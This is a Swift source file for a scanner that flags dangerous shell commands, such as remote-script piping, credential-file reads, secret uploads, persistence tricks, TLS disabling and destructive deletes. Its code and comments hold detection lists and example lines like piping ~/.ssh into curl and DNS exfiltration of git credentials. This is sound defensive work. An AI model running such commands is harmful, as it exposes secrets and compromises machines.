/// Command heuristics: H6 remote bootstrap, H7 credential reads, H8 persistence and weakening,
/// H12 destructive commands, and curl uploads of secret files (H5).
enum ShellMatchers {
    /// curl, wget, irm, iwr, Invoke-WebRequest, Invoke-RestMethod at `start..<end`.
    static func download(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        guard !view.isWord(end) else { return }
        let tool = view.text(start..<end).lowercased()
        let isPowerShell = !(tool == "curl" || tool == "wget")
        let commandEnd = ShellSyntax.commandEnd(view, from: end)
        let before = view.skipSpacesBackward(start)
        if tool == "downloadstring" {
            let prefix = view.text(view.line.lowerBound..<start).lowercased()
            if prefix.contains("iex") || prefix.contains("invoke-expression") {
                let runStart = ShellSyntax.tokenStart(view, view.skipSpacesBackward(start))
                matches.append(remote(view, runStart, commandEnd, "evaluates a script fetched from the network"))
            }
            return
        }
        if isPowerShell, before > view.line.lowerBound, view.bytes[before - 1] == 0x28 {
            let name = view.skipSpacesBackward(before - 1)
            if view.has("iex", endingAt: name) || view.has("invoke-expression", endingAt: name) {
                let runStart = ShellSyntax.tokenStart(view, name)
                matches.append(remote(view, runStart, commandEnd, "evaluates a script fetched from the network"))
                return
            }
        }
        if !isPowerShell, before >= view.line.lowerBound + 2, view.has("<(", endingAt: before) {
            var shellEnd = view.skipSpacesBackward(before - 2)
            if shellEnd > view.line.lowerBound, view.bytes[shellEnd - 1] == 0x3C { shellEnd = view.skipSpacesBackward(shellEnd - 1) }
            var shellStart = ShellSyntax.tokenStart(view, shellEnd)
            let shell = ShellSyntax.word(view, shellStart..<shellEnd)
            while shellStart < shellEnd, view.bytes[shellStart] == 0x60 || view.bytes[shellStart] == 0x22 || view.bytes[shellStart] == 0x27 {
                shellStart += 1
            }
            if ["bash", "sh", "zsh", "source", "."].contains(shell) {
                matches.append(TextMatch(
                    rule: .remoteScript, range: shellStart..<commandEnd,
                    message: "'\(view.excerpt(shellStart..<commandEnd))' runs a script straight from the network; download it, review it, pin its checksum",
                    severity: .warning))
                return
            }
        }
        if !isPowerShell, view.has("$(", endingAt: before) || view.has("`", endingAt: before) {
            var cursor = before - (view.has("$(", endingAt: before) ? 2 : 1)
            if cursor > view.line.lowerBound, view.bytes[cursor - 1] == 0x22 { cursor -= 1 }
            cursor = view.skipSpacesBackward(cursor)
            if view.has("eval", endingAt: cursor) {
                let evalStart = cursor - 4
                matches.append(TextMatch(
                    rule: .remoteScript, range: evalStart..<commandEnd,
                    message: "'\(view.excerpt(evalStart..<commandEnd))' evaluates text fetched from the network; download it, review it, pin its checksum",
                    severity: .warning))
                return
            }
            if view.has("<<<", endingAt: cursor) {
                let runEnd = view.skipSpacesBackward(cursor - 3)
                var tokenStart = ShellSyntax.tokenStart(view, runEnd)
                if ShellSyntax.word(view, tokenStart..<runEnd).hasPrefix("/dev/") {
                    tokenStart = ShellSyntax.tokenStart(view, view.skipSpacesBackward(tokenStart))
                }
                let runner = ShellSyntax.word(view, tokenStart..<view.tokenEnd(tokenStart))
                if ShellSyntax.shells.contains(runner) || runner == "source" || runner == "." {
                    matches.append(remote(view, tokenStart, commandEnd, "runs a script fetched from the network"))
                    return
                }
            }
            if let shellStart = ShellSyntax.shellRunningString(view, before: cursor) {
                matches.append(remote(view, shellStart, commandEnd, "runs a script fetched from the network"))
                return
            }
        }
        let runners = isPowerShell ? ShellSyntax.powerShellRunners : ShellSyntax.shells
        if let runnerEnd = ShellSyntax.pipeIntoRunner(view, end, commandEnd, runners: runners) {
            matches.append(TextMatch(
                rule: .remoteScript, range: start..<runnerEnd,
                message: "'\(view.excerpt(start..<runnerEnd))' pipes a download into an interpreter; legitimate installers do this too, so review the script and pin its checksum",
                severity: .warning))
        }
        if !isPowerShell, let source = pipedSecret(view, before: start) {
            matches.append(TextMatch(
                rule: .exfiltration, range: source..<commandEnd,
                message: "'\(view.excerpt(source..<commandEnd))' pipes a secret file into an upload", severity: nil))
        }
        guard !isPowerShell, hasFlagOrUpload(view, end, commandEnd) else { return }
        let tokens = ShellSyntax.tokens(view, end, commandEnd)
        if let runEnd = ShellSyntax.savedScriptRun(view, tokens, tool: tool, after: commandEnd) {
            matches.append(remote(view, start, runEnd, "downloads a script and runs it"))
        }
        for (position, token) in tokens.enumerated() {
            let word = ShellSyntax.word(view, token)
            let isInsecureFlag = word == "--insecure"
                || (tool == "curl" && word.hasPrefix("-") && !word.hasPrefix("--") && word.count <= 8 && word.contains("k")
                    && word.dropFirst().allSatisfy(\.isLetter))
            if isInsecureFlag {
                matches.append(TextMatch(
                    rule: .persistence, range: start..<token.upperBound,
                    message: "'\(view.excerpt(start..<token.upperBound))' turns off TLS certificate checks",
                    severity: nil))
            }
            let uploadFlags = ["-d", "--data", "--data-binary", "--data-raw", "-f", "--form", "-t", "--upload-file", "--post-file",
                               "--body-file"]
            if let at = word.firstIndex(of: "@") {
                let path = String(word[word.index(after: at)...])
                if SecretPaths.isSensitive(path) {
                    matches.append(upload(view, start, token.upperBound))
                }
            } else if uploadFlags.contains(word), position + 1 < tokens.count {
                let path = ShellSyntax.word(view, tokens[position + 1])
                if SecretPaths.isSensitive(path.hasPrefix("@") ? String(path.dropFirst()) : path) {
                    matches.append(upload(view, start, tokens[position + 1].upperBound))
                }
            }
        }
    }

    /// `tar czf - ~/.ssh | curl -T - …`, `cat .env | curl -d @- …`: when the command piped into
    /// the download reads a secret file, where that command starts.
    private static func pipedSecret(_ view: LineView, before start: Int) -> Int? {
        let pipe = view.skipSpacesBackward(start)
        guard pipe > view.line.lowerBound, view.bytes[pipe - 1] == 0x7C, pipe < 2 || view.bytes[pipe - 2] != 0x7C else { return nil }
        var segmentStart = pipe - 1
        while segmentStart > view.line.lowerBound, pipe - segmentStart < 1024 {
            let byte = view.bytes[segmentStart - 1]
            if byte == 0x7C || byte == 0x3B || byte == 0x26 || byte == 0x60 || byte == 0x28 { break }
            segmentStart -= 1
        }
        let tokens = ShellSyntax.tokens(view, segmentStart, pipe - 1)
        guard tokens.contains(where: {
            let word = ShellSyntax.word(view, $0)
            return SecretPaths.isSensitive(word) || word.hasSuffix("/.ssh") || word == "~/.ssh" || word.hasSuffix("/.aws")
        }) else { return nil }
        return tokens.first.map(\.lowerBound) ?? segmentStart
    }

    private static func remote(_ view: LineView, _ start: Int, _ end: Int, _ what: String) -> TextMatch {
        TextMatch(
            rule: .remoteScript, range: start..<end,
            message: "'\(view.excerpt(start..<end))' \(what); download it, review it, pin its checksum", severity: .warning)
    }

    /// Cheap test before tokenising: a `-k`/`--insecure`-style flag, an `@file` or a saved file
    /// can only be there when the command holds a `-`, an `@` or a `>`.
    private static func hasFlagOrUpload(_ view: LineView, _ start: Int, _ end: Int) -> Bool {
        var index = start
        while index < end {
            let byte = view.bytes[index]
            if byte == 0x2D || byte == 0x40 || byte == 0x3E { return true }
            index += 1
        }
        return false
    }

    private static func upload(_ view: LineView, _ start: Int, _ end: Int) -> TextMatch {
        TextMatch(
            rule: .exfiltration, range: start..<end,
            message: "'\(view.excerpt(start..<end))' uploads a secret file", severity: nil)
    }

    /// `base64 -d | sh`: an encoded payload run without being seen.
    static func base64(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        guard !view.isWord(end) else { return }
        let commandEnd = ShellSyntax.commandEnd(view, from: end)
        let tokens = ShellSyntax.tokens(view, end, commandEnd).prefix(4)
        guard tokens.contains(where: {
            let word = ShellSyntax.word(view, $0)
            return word == "-d" || word == "--decode" || word == "-D".lowercased() || word == "-di" || word == "-r" || word == "-rp"
                || word == "-revert"
        }) else { return }
        if let runnerEnd = ShellSyntax.pipeIntoRunner(view, end, commandEnd, runners: ShellSyntax.shells) {
            matches.append(TextMatch(
                rule: .remoteScript, range: start..<runnerEnd,
                message: "'\(view.excerpt(start..<runnerEnd))' runs an encoded (base64 or hex) payload nobody can read in review",
                severity: .error))
        }
    }

    private static let readers: Set<String> = ["cat", "less", "more", "head", "tail", "bat", "type", "base64", "xxd", "od",
                                               "strings", "cp", "scp", "nc", "openssl", "gpg"]

    /// A private key or credential file read by a command (H7).
    static func keyFile(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        if view.isWord(end) || view.has(".pub", at: end) { return }
        let pathStart = ShellSyntax.tokenStart(view, start)
        var cursor = view.skipSpacesBackward(pathStart)
        var steps = 0
        while cursor > view.line.lowerBound, steps < 4 {
            let tokenStart = ShellSyntax.tokenStart(view, cursor)
            var word = ShellSyntax.word(view, tokenStart..<cursor)
            // A read inside a command substitution ("nslookup $(cat ~/.git-credentials).x.test").
            while let first = word.first, first == "$" || first == "(" || first == "`" { word.removeFirst() }
            if readers.contains(word) {
                let pathEnd = view.tokenEnd(end)
                matches.append(TextMatch(
                    rule: .credentialRead, range: tokenStart..<pathEnd,
                    message: "'\(view.excerpt(tokenStart..<pathEnd))' reads a private key or credential file",
                    severity: nil))
                return
            }
            guard word.hasPrefix("-") || word == "sudo" else { return }
            cursor = view.skipSpacesBackward(tokenStart)
            steps += 1
        }
    }

    /// A command that prints a credential (H7).
    static func secretCommand(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        guard !view.isWord(end), end >= view.line.upperBound || view.bytes[end] != 0x2D else { return }
        matches.append(TextMatch(
            rule: .credentialRead, range: start..<end,
            message: "'\(view.excerpt(start..<end))' prints a credential that the agent would then hold in its context",
            severity: nil))
    }

    /// crontab, launchctl, `.git/hooks`, `csrutil disable`, `setenforce 0` and the like (H8).
    static func persistenceWord(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        guard !view.isWord(end) else { return }
        let word = view.text(start..<end).lowercased()
        if word == "core.hookspath", pointsInsideRepository(view, start, end) { return }
        let reason = switch word {
        case "crontab": "installs a scheduled job that outlives the session"
        case "launchctl": "loads a launchd service that outlives the session"
        case ".git/hooks": "writes a git hook that runs on every commit"
        case "core.hookspath": "redirects git hooks to another folder"
        default: "turns off an operating-system protection"
        }
        matches.append(TextMatch(rule: .persistence, range: start..<end, message: "'\(view.excerpt(start..<end))' \(reason)", severity: nil))
    }

    /// Whether `core.hooksPath` is set (without `--global` or `--system`) to a folder inside the
    /// repository (`.githooks`, `./scripts/hooks`, `.husky/_`): the project enabling its own
    /// committed hooks, which is setup. An absolute, home, parent or substituted path still
    /// redirects hooks somewhere the repository does not show.
    private static func pointsInsideRepository(_ view: LineView, _ start: Int, _ end: Int) -> Bool {
        let before = view.text(max(view.line.lowerBound, start - 80)..<start).lowercased()
        guard !before.contains("--global"), !before.contains("--system") else { return false }
        var cursor = end
        if cursor < view.line.upperBound, view.bytes[cursor] == 0x3D {
            cursor += 1
        } else {
            let spaced = view.skipSpaces(cursor)
            guard spaced > cursor else { return false }
            cursor = spaced
        }
        var quote: UInt8?
        if cursor < view.line.upperBound, view.bytes[cursor] == 0x22 || view.bytes[cursor] == 0x27 {
            quote = view.bytes[cursor]
            cursor += 1
        }
        let valueStart = cursor
        while cursor < view.line.upperBound, isRepositoryPathByte(view.bytes[cursor]) { cursor += 1 }
        guard cursor > valueStart else { return false }
        if cursor < view.line.upperBound {
            let next = view.bytes[cursor]
            let closes = quote.map { next == $0 } ?? false
            // Anything else glued to the value (`$`, `~`, `\`, `:`) makes it something other than a plain relative path.
            guard closes || LineView.isSpace(next) || next == 0x60 || next == 0x3B || next == 0x26 || next == 0x29 else { return false }
        }
        let value = view.text(valueStart..<cursor)
        guard !value.hasPrefix("/"), !value.hasPrefix("-") else { return false }
        return !value.split(separator: "/").contains("..")
    }

    /// Letters, digits, `.`, `_`, `-` and `/`: what a folder path inside a repository is spelt with.
    private static func isRepositoryPathByte(_ byte: UInt8) -> Bool {
        LineView.isWordByte(byte) || byte == 0x2E || byte == 0x2D || byte == 0x2F
    }

    /// `>> ~/.bashrc` and other appends to shell start-up files (H8).
    static func rcFile(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        guard !view.isWord(end) else { return }
        var cursor = start
        for prefix in ["~/", "$home/", "${home}/"] where view.has(prefix, endingAt: cursor) {
            cursor -= prefix.utf8.count
            break
        }
        if cursor > view.line.lowerBound, view.bytes[cursor - 1] == 0x22 || view.bytes[cursor - 1] == 0x27 { cursor -= 1 }
        cursor = view.skipSpacesBackward(cursor)
        let redirect = view.has(">", endingAt: cursor)
        let tee = view.has("tee", endingAt: cursor) || view.has("tee -a", endingAt: cursor)
        guard redirect || tee else { return }
        var operatorStart = cursor - 1
        while operatorStart > view.line.lowerBound, view.bytes[operatorStart - 1] == 0x3E { operatorStart -= 1 }
        if tee { operatorStart = ShellSyntax.tokenStart(view, view.has("tee -a", endingAt: cursor) ? cursor - 3 : cursor) }
        matches.append(TextMatch(
            rule: .persistence, range: operatorStart..<end,
            message: "'\(view.excerpt(operatorStart..<end))' changes a shell start-up file, so it runs in every later shell",
            severity: nil))
    }

    /// A package.json lifecycle script (`"postinstall": …`) that runs on every install (H8).
    static func packageScript(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        let colon = view.skipSpaces(end)
        guard colon < view.line.upperBound, view.bytes[colon] == 0x3A else { return }
        matches.append(TextMatch(
            rule: .persistence, range: start..<end,
            message: "lifecycle script \(view.text(start..<end)) runs on every install", severity: nil))
    }

    /// Switches that turn TLS verification off (H8).
    static func tlsOff(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        let word = view.text(start..<end).lowercased()
        var matchedEnd = end
        if word.hasPrefix("--") {
            guard !view.isWord(end), end >= view.line.upperBound || view.bytes[end] != 0x2D else { return }
        } else {
            var cursor = view.skipSpaces(end)
            while cursor < view.line.upperBound, [0x22, 0x27, 0x3D, 0x3A, 0x20].contains(view.bytes[cursor]) { cursor += 1 }
            let expected = word == "git_ssl_no_verify" ? ["1", "true"] : ["0", "false"]
            guard let value = expected.first(where: { view.has($0, at: cursor) }) else { return }
            matchedEnd = cursor + value.utf8.count
            guard !view.isWord(matchedEnd) else { return }
        }
        matches.append(TextMatch(
            rule: .persistence, range: start..<matchedEnd,
            message: "'\(view.excerpt(start..<matchedEnd))' turns off TLS certificate checks", severity: nil))
    }

    /// `npm config set registry …` and other global package-source or proxy changes (H8).
    static func configSet(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        let tokens = ShellSyntax.tokens(view, end, ShellSyntax.commandEnd(view, from: end))
        guard let key = tokens.first else { return }
        let word = ShellSyntax.word(view, key)
        let keys = ["registry", "proxy", "https-proxy", "http-proxy", "global.index-url", "global.extra-index-url",
                    "global.proxy", "global.trusted-host", "strict-ssl"]
        guard keys.contains(word) || word.hasSuffix(":registry") else { return }
        let commandStart = ShellSyntax.tokenStart(view, view.skipSpacesBackward(start))
        let range = (commandStart < start ? commandStart : start)..<key.upperBound
        matches.append(TextMatch(
            rule: .persistence, range: range,
            message: "'\(view.excerpt(range))' changes where every later install downloads from", severity: nil))
    }

    /// `git config --global http.proxy` and URL rewrites (H8).
    static func gitGlobal(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        let prefix = view.text(max(view.line.lowerBound, start - 80)..<start).lowercased()
        guard prefix.contains("git config"), prefix.contains("--global") || prefix.contains("--system") else { return }
        let range = ShellSyntax.tokenStart(view, start)..<view.tokenEnd(end)
        matches.append(TextMatch(
            rule: .persistence, range: range,
            message: "'\(view.excerpt(range))' reroutes every git connection on the machine", severity: nil))
    }

    /// `rm -rf /`, `rm -rf ~` and `$HOME` (H12).
    static func remove(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        let commandEnd = ShellSyntax.commandEnd(view, from: end)
        let tokens = ShellSyntax.tokens(view, end, commandEnd)
        var recursive = false
        var force = false
        for token in tokens {
            let word = ShellSyntax.word(view, token)
            if word.hasPrefix("--") {
                if word == "--recursive" { recursive = true }
                if word == "--force" { force = true }
                continue
            }
            if word.hasPrefix("-") {
                if word.contains("r") { recursive = true }
                if word.contains("f") { force = true }
                continue
            }
            let targets = ["/", "/*", "~", "~/", "~/*", "$home", "$home/", "${home}", "${home}/", "$home/*"]
            if recursive, force, targets.contains(word) {
                matches.append(TextMatch(
                    rule: .destructive, range: start..<token.upperBound,
                    message: "'\(view.excerpt(start..<token.upperBound))' deletes everything under the root or home folder",
                    severity: nil))
            }
            return
        }
    }

    /// `git push --force` (not `--force-with-lease`) and `git reset --hard` (H12).
    static func git(_ view: LineView, _ start: Int, _ end: Int, reset: Bool, into matches: inout [TextMatch]) {
        guard !view.isWord(end) else { return }
        var probe = max(view.line.lowerBound, start - 40)
        var sawGit = false
        while probe + 3 <= start, !sawGit {
            sawGit = view.has("git", at: probe)
            probe += 1
        }
        guard sawGit else { return }
        let tokens = ShellSyntax.tokens(view, end, ShellSyntax.commandEnd(view, from: end))
        let flags = reset ? ["--hard"] : ["--force", "-f"]
        guard let flag = tokens.first(where: { flags.contains(ShellSyntax.word(view, $0)) }) else { return }
        matches.append(TextMatch(
            rule: .destructive, range: start..<flag.upperBound,
            message: reset
                ? "'\(view.excerpt(start..<flag.upperBound))' discards uncommitted work without asking"
                : "'\(view.excerpt(start..<flag.upperBound))' overwrites the remote history",
            severity: nil))
    }

    /// Agent flags that approve every action (H12).
    static func autoApprove(_ view: LineView, _ start: Int, _ end: Int, into matches: inout [TextMatch]) {
        let range = ShellSyntax.tokenStart(view, start)..<view.tokenEnd(end)
        matches.append(TextMatch(
            rule: .destructive, range: range,
            message: "'\(view.excerpt(range))' lets the agent act without asking for approval", severity: nil))
    }
}

/// Paths whose contents are secrets: private keys, `.env`, cloud and package-manager credentials.
enum SecretPaths {
    static func isSensitive(_ path: String) -> Bool {
        let lower = path.lowercased()
        let names = ["id_rsa", "id_ed25519", "id_ecdsa", "id_dsa", ".aws/credentials", ".git-credentials", ".netrc", ".npmrc",
                     ".pypirc", "/etc/passwd", "/etc/shadow", ".docker/config.json"]
        if names.contains(where: { lower.contains($0) }) { return !lower.hasSuffix(".pub") }
        if lower.contains(".ssh/") { return !lower.hasSuffix(".pub") && !lower.hasSuffix("known_hosts") && !lower.hasSuffix("config") }
        let last = lower.split(separator: "/").last.map(String.init) ?? lower
        return last == ".env" || last.hasPrefix(".env.")
    }
}
